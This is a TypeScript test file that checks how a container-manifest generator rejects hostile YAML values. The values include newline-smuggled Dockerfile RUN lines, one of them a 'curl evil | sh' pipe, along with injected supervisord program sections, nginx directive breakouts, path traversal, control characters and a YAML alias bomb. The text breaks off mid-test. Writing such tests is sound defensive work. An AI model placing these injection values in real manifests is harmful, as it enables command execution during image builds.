/**
 * Hostile manifest strings: every string that reaches a generated file (Dockerfile, supervisord, nginx) is checked
 * by the rule of its kind and written in a form that cannot break out of its line. Each class runs the real CLI
 * against a throwaway project holding several hostile values at once (errors are collected, each with its
 * file:line); values that are odd but legitimate must come out correctly quoted. The last tests bypass the schema
 * and check that the generators refuse on their own.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { InputError } from '../../src/config/errors.js';
import { loadProject, type Project } from '../../src/config/project.js';
import { RULES, type layerSchema, ruleProblem, type Rule } from '../../src/config/schema.js';
import { generateFlavor } from '../../src/generate/flavor.js';
import { argValue, envValue, jsonArgs, supervisorValue } from '../../src/generate/quote.js';
import { BASE_FILES, cleanup, makeProject, runCli, type Files } from '../helpers/project.js';

const dirs: string[] = [];
after(() => dirs.forEach(cleanup));

function project(overrides: Files = {}, remove: string[] = []): string {
  const dir = makeProject(BASE_FILES, overrides, remove);
  dirs.push(dir);
  return dir;
}

interface Expected {
  /** `file:line` the error must start with. */
  at: string;
  /** Text the error line must contain (the field's path, what is wrong). */
  has: string[];
  /** The fix line, exactly (without the leading "  fix: "), when worth pinning. */
  fix?: string;
}

interface Block {
  line: string;
  fix?: string;
}

function blocks(stderr: string): Block[] {
  const out: Block[] = [];
  for (const l of stderr.split('\n')) {
    if (l.startsWith('idekube: error: ')) out.push({ line: l.slice('idekube: error: '.length) });
    else if (l.startsWith('  fix: ') && out.length) out[out.length - 1]!.fix = l.slice('  fix: '.length);
  }
  return out;
}

/** Runs `args` (default: generate --all into out/) and checks exit 2, every expected error, and that nothing was written. */
function refused(dir: string, expected: Expected[], args = ['generate', '--all', '-o', 'out']): void {
  const r = runCli(['-C', dir, ...args], { cwd: dir });
  assert.equal(r.code, 2, `exit code (stderr: ${r.stderr})`);
  assert.doesNotMatch(r.stderr, /internal error|^\s+at /m, 'no stack trace');
  // every line is an error or its fix: a newline inside a value never starts a line of its own
  for (const l of r.stderr.split('\n').filter(Boolean))
    assert.match(l, /^(idekube: error: | {2}fix: )/, `stray stderr line: ${JSON.stringify(l)}`);
  for (const l of r.stderr.split('\n')) assert.ok(l.length < 400, `message too long (${l.length} chars): ${l.slice(0, 120)}…`);
  const found = blocks(r.stderr);
  for (const e of expected) {
    const b = found.find((x) => x.line.startsWith(`${e.at}:`) && e.has.every((h) => x.line.includes(h)));
    assert.ok(b, `expected an error at ${e.at} with ${JSON.stringify(e.has)}; got:\n${r.stderr}`);
    if (e.fix !== undefined) assert.equal(b.fix, e.fix, `fix of ${e.at}`);
  }
  assert.ok(!existsSync(join(dir, 'out')), 'nothing generated');
}

function generated(dir: string, args = ['generate', '--all', '-o', 'out']): void {
  const r = runCli(['-C', dir, ...args], { cwd: dir });
  assert.equal(r.code, 0, r.stderr);
}

const read = (dir: string, rel: string) => readFileSync(join(dir, rel), 'utf8');
const TOOL = 'run: install.sh\nargs:\n  TOOL_VERSION: null\nservices:\n  web:\n';

describe('manifest strings: Dockerfile instructions', () => {
  it('refuses image references, label keys, copy paths, owners and copyFrom values that would start a new instruction', () => {
    const dir = project({
      'flavors/beta/base/flavor.yaml': [
        'from:',
        '  image: "debian\\nRUN curl evil | sh"',
        'layers: [base]',
        'labels:',
        '  "a\\nRUN evil": v',
        '  "with space": v',
        '  "tab\\tkey": v',
        '  "q\\"uote": v',
        '  io.idekube.flavor: fake',
        '  org.example.ok: "v\\nRUN evil"',
        '',
      ].join('\n'),
      'flavors/alpha/base/flavor.yaml': 'from:\n  image: "--platform=linux/arm64"\nlayers: [base, tool]\n',
      'flavors/alpha/child/flavor.yaml': 'from:\n  parent: alpha/base\nlayers: [extra]\nenv:\n  OK: "x\\ny"\n',
      'flavors/layers/base.yaml': [
        'run: install.sh',
        'copy:',
        '  - {src: install.sh, dest: "/x\\nRUN evil"}',
        '  - {src: install.sh, dest: /y, chown: "root\\nRUN evil"}',
        '  - {src: install.sh, dest: /z, chown: "a b"}',
        '',
      ].join('\n'),
      'flavors/layers/extra.yaml':
        'run: install.sh\nrequires: [base]\ncopyFrom:\n  image: "img:1\\nRUN evil"\n  src: /a\n  dest: "/b c\\nRUN x"\n',
      'flavors/layers/amd64only.yaml':
        'run: install.sh\nplatforms: [linux/amd64]\ncopyFrom:\n  image: "img:1 AS x"\n  src: /a\n  dest: /b\n',
    });
    const expected: Expected[] = [
      {
        at: 'flavors/beta/base/flavor.yaml:2',
        has: ['invalid image reference "debian\\nRUN curl evil | sh": contains a newline', '(at from.image)'],
      },
      {
        at: 'flavors/beta/base/flavor.yaml:5',
        has: ['invalid label key "a\\nRUN evil": contains a newline', '(at labels["a\\nRUN evil"])'],
      },
      { at: 'flavors/beta/base/flavor.yaml:6', has: ['invalid label key "with space": contains " "'] },
      { at: 'flavors/beta/base/flavor.yaml:7', has: ['invalid label key "tab\\tkey": contains a tab'] },
      { at: 'flavors/beta/base/flavor.yaml:8', has: ['invalid label key "q\\"uote": contains "\\""'] },
      { at: 'flavors/beta/base/flavor.yaml:9', has: ["is reserved for idekube's own labels", '(at labels.io.idekube.flavor)'] },
      { at: 'flavors/beta/base/flavor.yaml:10', has: ['invalid value "v\\nRUN evil": contains a newline', '(at labels.org.example.ok)'] },
      { at: 'flavors/alpha/base/flavor.yaml:2', has: ['starts with -, which the engine would read as a flag'] },
      { at: 'flavors/alpha/child/flavor.yaml:5', has: ['contains a newline', '(at env.OK)'] },
      { at: 'flavors/layers/base.yaml:3', has: ['invalid path in the image "/x\\nRUN evil": contains a newline', '(at copy[0].dest)'] },
      {
        at: 'flavors/layers/base.yaml:4',
        has: ['invalid owner "root\\nRUN evil": contains a newline', '(at copy[1].chown)'],
        fix: RULES.chown.fix,
      },
      { at: 'flavors/layers/base.yaml:5', has: ['invalid owner "a b": contains " "', '(at copy[2].chown)'] },
      { at: 'flavors/layers/extra.yaml:4', has: ['invalid image reference "img:1\\nRUN evil"', '(at copyFrom.image)'] },
      { at: 'flavors/layers/extra.yaml:6', has: ['contains a newline', '(at copyFrom.dest)'] },
      { at: 'flavors/layers/amd64only.yaml:4', has: ['invalid image reference "img:1 AS x": contains " "'] },
    ];
    refused(dir, expected);
    refused(dir, expected, ['list']);
    refused(dir, expected, ['plan', '--all']);
  });

  it('refuses layer paths that leave the layer folder, are absolute, or hold $, \\ or a tab', () => {
    const dir = project({
      'flavors/layers/base.yaml': [
        'run: ../tool/install.sh',
        'copy:',
        '  - {src: ../tool/install.sh, dest: /a}',
        '  - {src: rootfs/../../../etc, dest: /b}',
        '  - {src: /etc/, dest: /c}',
        '  - {src: "a\\\\b", dest: /d}',
        '  - {src: "$HOME/x", dest: /e}',
        '  - {src: "a\\tb", dest: /f}',
        '  - {src: install.sh, dest: relative/g}',
        '  - {src: install.sh, dest: /h/../../etc}',
        '',
      ].join('\n'),
      'flavors/layers/extra.yaml': 'run: /bin/sh\nrequires: [base]\n',
      'flavors/layers/amd64only.yaml': 'run: "install.sh\\nRUN evil"\nplatforms: [linux/amd64]\n',
    });
    const layer = 'has a .. segment, which would leave the layer folder';
    refused(dir, [
      {
        at: 'flavors/layers/base.yaml:1',
        has: ['invalid script path "../tool/install.sh"', layer, '(at run)'],
        fix: RULES.layerScript.fix,
      },
      {
        at: 'flavors/layers/base.yaml:3',
        has: ['invalid layer path "../tool/install.sh"', layer, '(at copy[0].src)'],
        fix: RULES.layerPath.fix,
      },
      { at: 'flavors/layers/base.yaml:4', has: ['"rootfs/../../../etc"', layer] },
      { at: 'flavors/layers/base.yaml:5', has: ['"/etc/": is an absolute path'] },
      { at: 'flavors/layers/base.yaml:6', has: ['"a\\\\b": has a \\, the Dockerfile escape character'] },
      { at: 'flavors/layers/base.yaml:7', has: ['"$HOME/x": has a $, which the Dockerfile would expand'] },
      { at: 'flavors/layers/base.yaml:8', has: ['"a\\tb": contains a tab'] },
      { at: 'flavors/layers/base.yaml:9', has: ['"relative/g": is not an absolute path', '(at copy[6].dest)'] },
      { at: 'flavors/layers/base.yaml:10', has: ['"/h/../../etc": has a .. segment'] },
      { at: 'flavors/layers/extra.yaml:1', has: ['"/bin/sh": is an absolute path; it must be relative to artifacts/layers/<layer>/'] },
      { at: 'flavors/layers/amd64only.yaml:1', has: ['invalid script path "install.sh\\nRUN evil": contains a newline'] },
    ]);
  });

  it('writes odd but valid values quoted: copy paths with spaces and quotes in JSON form, ENV and LABEL values escaped', () => {
    const dir = project({
      'flavors/layers/base.yaml': [
        'description: base packages',
        'run: install.sh',
        'copy:',
        '  - {src: "my dir/", dest: "/opt/my dest"}',
        '  - {src: "./we\\"ird file", dest: "/opt/it\'s here/", chown: "1000:1000"}',
        'env:',
        '  A: "tab\\there \\"quoted\\" back\\\\slash ${PATH}"',
        '',
      ].join('\n'),
      'artifacts/layers/base/my dir/a.txt': 'a\n',
      'artifacts/layers/base/we"ird file': 'b\n',
      'flavors/beta/base/flavor.yaml':
        'from:\n  image: ${BASE_IMAGE}\nlayers: [base]\nlabels:\n  org.example.note: "say \\"hi\\" \\\\o/"\n',
    });
    generated(dir);
    const df = read(dir, 'out/beta/base/Dockerfile');
    const lines = df.split('\n');
    assert.ok(lines.includes('COPY ["layers/base/my dir/", "/opt/my dest"]'), df);
    assert.ok(lines.includes('COPY --chown=1000:1000 ["layers/base/we\\"ird file", "/opt/it\'s here/"]'), df);
    // the JSON part reads back to exactly the paths
    const copies = lines.filter((l) => l.startsWith('COPY ')).map((l) => JSON.parse(l.slice(l.indexOf('['))) as string[]);
    assert.deepEqual(copies, [
      ['layers/base/my dir/', '/opt/my dest'],
      ['layers/base/we"ird file', "/opt/it's here/"],
    ]);
    assert.ok(
      lines.includes('    ["bash", "/tmp/idekube/build/run-layer.sh", "/tmp/idekube/layers/base/install.sh"]'),
      'RUN in exec (JSON) form',
    );
    assert.ok(lines.includes('ENV A="tab\there \\"quoted\\" back\\\\slash ${PATH}"'), df);
    assert.ok(lines.includes('      org.example.note="say \\"hi\\" \\\\o/"'), df);
    // the context holds the file behind the spaced path
    assert.equal(read(dir, 'out/beta/base/layers/base/my dir/a.txt'), 'a\n');
    generated(dir, ['plan', '--all']);
  });
});

describe('manifest strings: supervisord programs', () => {
  it('refuses command, user, directory and environment values that would add a [program:…] or be cut by a comment', () => {
    const dir = project({
      'flavors/layers/tool.yaml': [
        'run: install.sh',
        'args:',
        '  TOOL_VERSION: null',
        'services:',
        '  web:',
        '    programs:',
        '      a: {command: "/usr/bin/web\\n[program:evil]\\ncommand=/bin/evil"}',
        '      b: {command: /bin/b, user: "idekube\\n[program:evil]"}',
        '      c: {command: /bin/c, directory: "/srv\\n[program:evil]"}',
        '      d: {command: /bin/d, environment: {K: "v\\"\\n[program:evil]"}}',
        '      e: {command: "/bin/e ;[program:evil]"}',
        '      f: {command: /bin/f, user: Root}',
        '      g: {command: /bin/g, directory: relative/dir}',
        '      h: {command: "/bin/h\\targ"}',
        '      i: {command: /bin/i, environment: {"BAD-NAME": x, OK: "a #b"}}',
        '',
      ].join('\n'),
    });
    const prog = (p: string, f: string) => `(at services.web.programs.${p}.${f})`;
    refused(dir, [
      {
        at: 'flavors/layers/tool.yaml:7',
        has: ['invalid command "/usr/bin/web\\n[program:evil]\\ncommand=/bin/evil": contains a newline', prog('a', 'command')],
        fix: RULES.command.fix,
      },
      { at: 'flavors/layers/tool.yaml:8', has: ['invalid user', 'contains a newline', prog('b', 'user')] },
      { at: 'flavors/layers/tool.yaml:9', has: ['invalid directory', 'contains a newline', prog('c', 'directory')] },
      { at: 'flavors/layers/tool.yaml:10', has: ['contains a newline', prog('d', 'environment.K')] },
      {
        at: 'flavors/layers/tool.yaml:11',
        has: ["has a space before ; or #, where supervisord's config parser starts a comment", prog('e', 'command')],
      },
      { at: 'flavors/layers/tool.yaml:12', has: ['invalid user "Root": contains "R"'] },
      { at: 'flavors/layers/tool.yaml:13', has: ['"relative/dir": is not an absolute path'] },
      { at: 'flavors/layers/tool.yaml:14', has: ['"/bin/h\\targ": contains a tab'] },
      { at: 'flavors/layers/tool.yaml:15', has: ['invalid variable name "BAD-NAME": contains "-"'] },
      { at: 'flavors/layers/tool.yaml:15', has: ['invalid value "a #b": has a space before ; or #', prog('i', 'environment.OK')] },
    ]);
  });

  it('writes % literally (doubled), quotes environment values, and maps ${USERNAME} to the image user', () => {
    const dir = project({
      'flavors/layers/tool.yaml': `${TOOL}    programs:\n      web: {command: "/bin/date +%s --fmt \\"a b\\";x", user: "\${USERNAME}", directory: "/srv/50% off", environment: {K: "100% \\"q\\" back\\\\slash, comma"}}\n`,
    });
    generated(dir);
    const conf = read(dir, 'out/alpha/base/runtime/etc/supervisor/conf.d/idekube.conf').split('\n');
    assert.ok(conf.includes('command=/bin/date +%%s --fmt "a b";x'), conf.join('\n'));
    assert.ok(conf.includes('user=idekube'), conf.join('\n'));
    assert.ok(conf.includes('directory=/srv/50%% off'), conf.join('\n'));
    assert.ok(conf.includes('environment=HOME="/home/idekube",K="100%% \\"q\\" back\\\\slash, comma",USER="idekube"'), conf.join('\n'));
    assert.deepEqual(
      conf.filter((l) => l.startsWith('[program:')),
      ['[program:nginx]', '[program:health]', '[program:web]'],
      'nginx, health and web only',
    );
  });
});

describe('manifest strings: nginx routes', () => {
  it('refuses route paths and upstreams that could close the location or add directives', () => {
    const dir = project({
      'flavors/layers/tool.yaml': [
        TOOL.trimEnd(),
        '    routes:',
        '      - {path: /a/, port: 8080, upstream: "/x; } location /evil { return 200"}',
        '      - {path: /b/, port: 8080, upstream: "/b}"}',
        '      - {path: /c/, port: 8080, upstream: "/c;"}',
        '      - {path: /d/, port: 8080, upstream: "/d e"}',
        '      - {path: /e/, port: 8080, upstream: "e"}',
        '      - {path: "/f{/", port: 8080}',
        '      - {path: /g/, port: 8080, upstream: "/g\\"h"}',
        '      - {path: /h/, port: 8080, upstream: "/h\\n}"}',
        '',
      ].join('\n'),
    });
    const up = (i: number) => `(at services.web.routes[${i}].upstream)`;
    refused(dir, [
      {
        at: 'flavors/layers/tool.yaml:7',
        has: ['invalid URL path "/x; } location /evil { return 200": contains ";"', up(0)],
        fix: RULES.urlPath.fix,
      },
      { at: 'flavors/layers/tool.yaml:8', has: ['contains "}"', up(1)] },
      { at: 'flavors/layers/tool.yaml:9', has: ['contains ";"', up(2)] },
      { at: 'flavors/layers/tool.yaml:10', has: ['contains " "', up(3)] },
      { at: 'flavors/layers/tool.yaml:11', has: ['"e": does not start with /', up(4)] },
      { at: 'flavors/layers/tool.yaml:12', has: ['contains "{"', '(at services.web.routes[5].path)'] },
      { at: 'flavors/layers/tool.yaml:13', has: ['contains "\\""', up(6)] },
      { at: 'flavors/layers/tool.yaml:14', has: ['contains a newline', up(7)] },
    ]);
  });
});

describe('manifest strings: YAML numbers and booleans where text is meant', () => {
  it('refuses values whose text YAML would rewrite, with "quote it" as the fix', () => {
    const dir = project({
      'flavors/layers/base.yaml': [
        'run: install.sh',
        'args:',
        '  TZ: UTC',
        '  V: 1.10',
        '  H: 0x10',
        '  E: 1e5',
        '  L: 123456789012345678901234567890',
        '  B: True',
        '  O: 0o17',
        '  P: +1',
        '  Z: 007',
        '',
      ].join('\n'),
      'flavors/beta/base/flavor.yaml':
        'description: 2.0\nfrom:\n  image: x\nlayers: [base]\nenv:\n  X: 1.10\nlabels:\n  org.example.v: 1.10\n  org.example.n: 5\n',
      'flavors/layers/tool.yaml': `${TOOL}    programs:\n      web: {command: 1.10, user: 1000, environment: {K: 0x10}}\n`,
    });
    refused(dir, [
      {
        at: 'flavors/layers/base.yaml:4',
        has: ['YAML reads 1.10 as the number 1.1, which loses its text', '(at args.V)'],
        fix: 'quote it: "1.10"',
      },
      { at: 'flavors/layers/base.yaml:5', has: ['YAML reads 0x10 as the number 16'], fix: 'quote it: "0x10"' },
      { at: 'flavors/layers/base.yaml:6', has: ['YAML reads 1e5 as the number 100000'], fix: 'quote it: "1e5"' },
      {
        at: 'flavors/layers/base.yaml:7',
        has: ['as the number 1.2345678901234568e+29'],
        fix: 'quote it: "123456789012345678901234567890"',
      },
      { at: 'flavors/layers/base.yaml:8', has: ['YAML reads True as the boolean true'], fix: 'quote it: "True"' },
      { at: 'flavors/layers/base.yaml:9', has: ['YAML reads 0o17 as the number 15'], fix: 'quote it: "0o17"' },
      { at: 'flavors/layers/base.yaml:10', has: ['YAML reads +1 as the number 1'], fix: 'quote it: "+1"' },
      { at: 'flavors/layers/base.yaml:11', has: ['YAML reads 007 as the number 7'], fix: 'quote it: "007"' },
      { at: 'flavors/beta/base/flavor.yaml:1', has: ['must be a string, not the number 2', '(at description)'], fix: 'quote it: "2.0"' },
      { at: 'flavors/beta/base/flavor.yaml:6', has: ['YAML reads 1.10 as the number 1.1', '(at env.X)'], fix: 'quote it: "1.10"' },
      {
        at: 'flavors/beta/base/flavor.yaml:8',
        has: ['must be a string, not the number 1.1', '(at labels.org.example.v)'],
        fix: 'quote it: "1.10"',
      },
      { at: 'flavors/beta/base/flavor.yaml:9', has: ['must be a string, not the number 5'], fix: 'quote it: "5"' },
      {
        at: 'flavors/layers/tool.yaml:7',
        has: ['must be a string, not the number 1.1', '(at services.web.programs.web.command)'],
        fix: 'quote it: "1.10"',
      },
      {
        at: 'flavors/layers/tool.yaml:7',
        has: ['must be a string, not the number 1000', '(at services.web.programs.web.user)'],
        fix: 'quote it: "1000"',
      },
      {
        at: 'flavors/layers/tool.yaml:7',
        has: ['YAML reads 0x10 as the number 16', '(at services.web.programs.web.environment.K)'],
        fix: 'quote it: "0x10"',
      },
    ]);
  });

  it('keeps numbers and booleans whose text survives (1, 4.2, true), and quoted ones verbatim', () => {
    const dir = project({
      'flavors/layers/base.yaml': 'run: install.sh\nargs:\n  TZ: UTC\n  N: 1\n  F: 4.2\n  B: true\n  Q: "1.10"\n  S: "0x10"\n',
    });
    generated(dir);
    const lines = read(dir, 'out/beta/base/Dockerfile').split('\n');
    for (const l of ['ARG N=1', 'ARG F=4.2', 'ARG B=true', 'ARG Q=1.10', 'ARG S=0x10'])
      assert.ok(lines.includes(l), `${l} in\n${lines.join('\n')}`);
  });
});

describe('manifest strings: control characters and encoding', () => {
  it('refuses NUL, CR, ESC, DEL, C1, U+2028 and unpaired surrogates in any value or key, and invalid UTF-8', () => {
    const dir = project({
      'flavors/beta/base/flavor.yaml': [
        'description: "nul\\0here"',
        'from:',
        '  image: "debian\\rRUN evil"',
        'layers: [base]',
        'env:',
        '  A: "esc\\x1b[31m"',
        '  B: "sep\\u2028x"',
        '  C: "del\\x7f"',
        '  D: "c1\\x85"',
        '  "E\\0": x',
        '',
      ].join('\n'),
      'flavors/alpha/base/flavor.yaml': 'from:\n  image: ${BASE_IMAGE}\nlayers: [base, tool]\ndescription: raw\u0000nul\n',
      'flavors/layers/tool.yaml': `${TOOL}    description: "\\ud800"\n    programs:\n      web: {command: /bin/web}\n`,
    });
    writeFileSync(
      join(dir, 'flavors/layers/extra.yaml'),
      Buffer.concat([Buffer.from('run: install.sh\nrequires: [base]\ndescription: caf'), Buffer.from([0xc3, 0x28]), Buffer.from('\n')]),
    );
    const fix = 'remove the control character (write text on one line; only tabs are allowed, and newlines in descriptions)';
    refused(dir, [
      { at: 'flavors/beta/base/flavor.yaml:1', has: ['value contains a NUL character', '(at description)'], fix },
      { at: 'flavors/beta/base/flavor.yaml:3', has: ['value contains a carriage return', '(at from.image)'] },
      { at: 'flavors/beta/base/flavor.yaml:6', has: ['control character U+001B', '(at env.A)'] },
      { at: 'flavors/beta/base/flavor.yaml:7', has: ['a line separator (U+2028)', '(at env.B)'] },
      { at: 'flavors/beta/base/flavor.yaml:8', has: ['control character U+007F', '(at env.C)'] },
      { at: 'flavors/beta/base/flavor.yaml:9', has: ['control character U+0085', '(at env.D)'] },
      { at: 'flavors/beta/base/flavor.yaml:10', has: ['key contains a NUL character'] },
      { at: 'flavors/alpha/base/flavor.yaml:4', has: ['value contains a NUL character', '(at description)'] },
      { at: 'flavors/layers/tool.yaml:6', has: ['an unpaired surrogate', '(at services.web.description)'] },
      {
        at: 'flavors/layers/extra.yaml:3',
        has: ['the file is not valid UTF-8'],
        fix: 'save it as UTF-8 (remove or retype the character on that line)',
      },
    ]);
  });

  it('accepts newlines and tabs in descriptions, CRLF files and a BOM; the Dockerfile comment stays one line', () => {
    const dir = project({
      'flavors/layers/base.yaml': '\ufeffdescription: |\r\n  First line\twith a tab.\r\n  Second line.\r\nrun: install.sh\r\n',
    });
    generated(dir);
    assert.ok(read(dir, 'out/beta/base/Dockerfile').split('\n').includes('# layer base: First line with a tab'));
  });

  it('never echoes a huge value whole', () => {
    const dir = project({
      'flavors/beta/base/flavor.yaml': `from:\n  image: "${'a'.repeat(5000)}\\nRUN evil"\nlayers: [base]\nenv:\n  A: "${'b'.repeat(100_000)}\\n"\n`,
    });
    refused(dir, [
      { at: 'flavors/beta/base/flavor.yaml:2', has: ['… (5009 characters): contains a newline', '(at from.image)'] },
      { at: 'flavors/beta/base/flavor.yaml:5', has: ['… (100001 characters): contains a newline', '(at env.A)'] },
    ]);
  });
});

describe('manifest strings: YAML alias bomb', () => {
  it('a billion laughs is exit 2, quickly, at the first alias', () => {
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 10; i++) {
      const p = String.fromCharCode(96 + i);
      const n = String.fromCharCode(97 + i);
      levels.push(`${n}: &${n} [${Array(9).fill(`*${p}`).join(',')}]`);
    }
    const dir = project({ 'flavors/beta/base/flavor.yaml': `from: {image: x}\nlayers: [base]\n${levels.join('\n')}\n` });
    const start = Date.now();
    refused(dir, [
      {
        at: 'flavors/beta/base/flavor.yaml:4',
        has: ['too many YAML alias expansions'],
        fix: 'write the values out instead of repeating anchors (&name) through aliases (*name)',
      },
    ]);
    assert.ok(Date.now() - start < 15_000, `took ${Date.now() - start} ms`);
  });

  it('a few aliases are fine', () => {
    const dir = project({
      'flavors/beta/base/flavor.yaml': 'from:\n  image: &img x\nlayers: [base]\nenv:\n  A: &v "1.10"\n  B: *v\n  C: *img\n',
    });
    generated(dir);
    assert.ok(read(dir, 'out/beta/base/Dockerfile').includes('ENV A="1.10" \\\n    B="1.10" \\\n    C="x"'));
  });
});

describe('manifest strings: a layer that does nothing', () => {
  it('refuses layers without run, copy, copyFrom, env or services', () => {
    const dir = project({
      'flavors/layers/extra.yaml': 'description: nothing here\nrequires: [base]\n',
      'flavors/layers/amd64only.yaml': 'copy: []\nplatforms: [linux/amd64]\n',
      'flavors/layers/argsonly.yaml': 'args:\n  A: x\n',
      'flavors/layers/nosvc.yaml': 'services: {}\nenv: {}\n',
      'flavors/layers/empty.yaml': '',
    });
    const e = (file: string): Expected => ({
      at: `flavors/layers/${file}.yaml:1`,
      has: ['a layer must do something'],
      fix: 'give it run:, copy:, copyFrom:, env: or services:',
    });
    refused(dir, [e('extra'), e('amd64only'), e('argsonly'), e('nosvc'), e('empty')], ['list']);
  });

  it('accepts a layer that only sets env', () => {
    const dir = project({ 'flavors/layers/extra.yaml': 'env:\n  A: x\nrequires: [base]\n' });
    generated(dir);
    assert.ok(read(dir, 'out/alpha/child/Dockerfile').includes('ENV A="x"'));
  });
});

describe('manifest strings: the generators refuse on their own (second line of defence)', () => {
  const fresh = (): Project => {
    const dir = project();
    return loadProject({ dir, sets: [], flags: { GIT_TAG: 'v0.0.0' }, env: {} });
  };
  const cases: Array<[string, (p: Project) => void, string, RegExp]> = [
    [
      'from.image',
      (p) => Object.assign(p.catalog.flavors.get('beta/base')!, { from: { image: 'x\nRUN evil' } }),
      'beta/base',
      /invalid image reference "x\\nRUN evil": contains a newline/,
    ],
    [
      'copy src',
      (p) => (p.catalog.layers.get('base')!.copy = [{ src: '../tool/install.sh', dest: '/x' }]),
      'beta/base',
      /has a \.\. segment/,
    ],
    [
      'copy dest',
      (p) => (p.catalog.layers.get('base')!.copy = [{ src: 'install.sh', dest: '/x\nRUN evil' }]),
      'beta/base',
      /contains a newline/,
    ],
    [
      'chown',
      (p) => (p.catalog.layers.get('base')!.copy = [{ src: 'install.sh', dest: '/x', chown: 'a b' }]),
      'beta/base',
      /invalid owner/,
    ],
    ['run', (p) => (p.catalog.layers.get('base')!.run = 'install.sh\nRUN evil'), 'beta/base', /invalid script path/],
    ['label key', (p) => (p.catalog.flavors.get('beta/base')!.labels = { 'a\nRUN evil': 'v' }), 'beta/base', /invalid label key/],
    ['label value', (p) => (p.catalog.flavors.get('beta/base')!.labels = { 'org.x': 'v\nRUN evil' }), 'beta/base', /contains a newline/],
    ['env value', (p) => (p.catalog.flavors.get('beta/base')!.env = { A: 'a\rb' }), 'beta/base', /contains a carriage return/],
    ['env name', (p) => (p.catalog.flavors.get('beta/base')!.env = { 'A B': 'x' }), 'beta/base', /invalid variable name/],
    [
      'command',
      (p) => (p.catalog.layers.get('tool')!.services[0]!.programs.web!.command = '/bin/x\n[program:evil]'),
      'alpha/base',
      /invalid command/,
    ],
    ['user', (p) => (p.catalog.layers.get('tool')!.services[0]!.programs.web!.user = 'a\nb'), 'alpha/base', /invalid user/],
    [
      'program env',
      (p) => (p.catalog.layers.get('tool')!.services[0]!.programs.web!.environment = { K: 'v\n[x]' }),
      'alpha/base',
      /contains a newline/,
    ],
    [
      'upstream',
      (p) => (p.catalog.layers.get('tool')!.services[0]!.routes[0]!.upstream = '/x; }'),
      'alpha/base',
      /invalid upstream path "\/x; }": contains ";"/,
    ],
    ['route path', (p) => (p.catalog.layers.get('tool')!.services[0]!.routes[0]!.path = '/x {'), 'alpha/base', /invalid route path/],
  ];
  for (const [name, tamper, flavor, message] of cases) {
    it(`${name}: exit 2 (InputError), nothing written`, () => {
      const p = fresh();
      tamper(p);
      assert.throws(
        () => generateFlavor(p, flavor),
        (e: unknown) => e instanceof InputError && e.exitCode === 2 && message.test(e.message),
      );
    });
  }

  it('quote helpers: JSON form, supervisord values, Dockerfile values', () => {
    assert.equal(jsonArgs(['layers/x/a b', '/c "d"']), '["layers/x/a b", "/c \\"d\\""]');
    assert.throws(() => jsonArgs(['a\nb']), InputError);
    assert.equal(supervisorValue('date +%s', 'command'), 'date +%%s');
    assert.throws(() => supervisorValue('a ;b', 'command'), /space before ; or #/);
    assert.throws(() => supervisorValue('a\nb', 'command'), /contains a newline/);
    assert.equal(envValue('a "b" \\c $D'), '"a \\"b\\" \\\\c $D"');
    assert.throws(() => envValue('a\nb'), /contains a newline/);
    assert.equal(argValue('a\nb'), '"a\\nb"', 'a .dockerargs value may hold a newline (written as \\n)');
    assert.throws(() => argValue('a\rb'), /carriage return/);
    assert.throws(() => argValue('a\0b'), /NUL/);
  });
});

describe('manifest strings: the rules are the schema', () => {
  const samples: Record<keyof typeof RULES, { good: string[]; bad: string[] }> = {
    imageRef: {
      good: ['x', 'ubuntu:24.04', '${BASE_IMAGE}', 'nvcr.io/nvidia/isaac-sim:${ISAAC_VERSION}', 'r.example:5000/a/b@sha256:0123', '$A'],
      bad: ['', '-x', '.x', 'a b', 'a\nb', 'a$', 'a${B', 'a"b', 'a;b'],
    },
    layerScript: {
      good: ['install.sh', 'bin/setup-1.sh', './install.sh', 'a..b.sh'],
      bad: ['', '/install.sh', '../x.sh', 'a/../../x', '..', 'a b.sh', 'a\nb', 'a$b'],
    },
    layerPath: {
      good: ['rootfs/', 'my dir/a b', './x', 'a"b', "it's", '.', 'a..b', 'ünï'],
      bad: ['', '/etc', '../x', 'a/..', 'a/../b', 'a\\b', '$HOME', 'a\tb', 'a\nb', 'a\u2028b'],
    },
    imagePath: { good: ['/', '/opt/my dest', '/a"b', '/a..b/'], bad: ['', 'x', '/a/../b', '/..', '/$HOME', '/a\\b', '/a\nb'] },
    chown: { good: ['root', 'idekube:idekube', '1000', '1000:1000', 'a.b-c_d'], bad: ['', 'a b', 'a:', ':a', 'a:b:c', '-a', 'a\n'] },
    labelKey: {
      good: ['org.example.team', 'a', 'A-1_b.c', 'io.idekube'],
      bad: ['', 'a b', 'a.', '.a', 'io.idekube.flavor', 'a/b', 'a\nb', 'a"b'],
    },
    name: { good: ['a', 'code-server', '0x'], bad: ['', 'A', '-a', 'a_b', 'a b'] },
    envName: { good: ['A', '_a1', 'PATH'], bad: ['', '1A', 'A-B', 'A B', 'A\n'] },
    value: { good: ['', 'x', 'a\tb', '"q" \\ $PATH ; # %', 'ünï'], bad: ['a\nb', 'a\rb', 'a\0b', 'a\x1bb', 'a\u2028b', 'a\x85b'] },
    programValue: { good: ['', 'a;b', 'a\tb', '100%'], bad: ['a ;b', 'a #b', 'a\t#b', 'a\nb'] },
    user: {
      good: ['root', 'idekube', '_x', 'a-b$', '1000', '${USERNAME}'],
      bad: ['', 'Root', 'a b', '$USER', '${OTHER}', 'a\n', 'a'.repeat(40)],
    },
    command: { good: ['/bin/x', '/usr/sbin/nginx -g "daemon off;"', 'a;b', 'x %s'], bad: ['', 'a ;b', 'a #b', 'a\nb', 'a\tb', 'a\rb'] },
    directory: { good: ['/', '/srv/a b', '/a;b'], bad: ['', 'srv', '/a ;b', '/a\nb'] },
    urlPath: {
      good: ['/', '/coder/', '/vnc/websockify', '/a.b~c-d_e'],
      bad: ['', 'a', '/a b', '/a;', '/a}', '/a{', '/a"', '/a\n', '/a?b', '/a$b'],
    },
  };
  for (const [key, { good, bad }] of Object.entries(samples)) {
    it(`${key}: the schema pattern and the generator's check agree`, () => {
      const rule = (RULES as Record<string, Rule>)[key]!;
      const re = new RegExp(rule.pattern, 'u');
      for (const v of good) {
        assert.ok(re.test(v), `pattern refuses good ${JSON.stringify(v)}`);
        assert.equal(ruleProblem(rule, v), undefined, `check refuses good ${JSON.stringify(v)}`);
      }
      for (const v of bad) {
        assert.ok(!re.test(v), `pattern accepts bad ${JSON.stringify(v)}`);
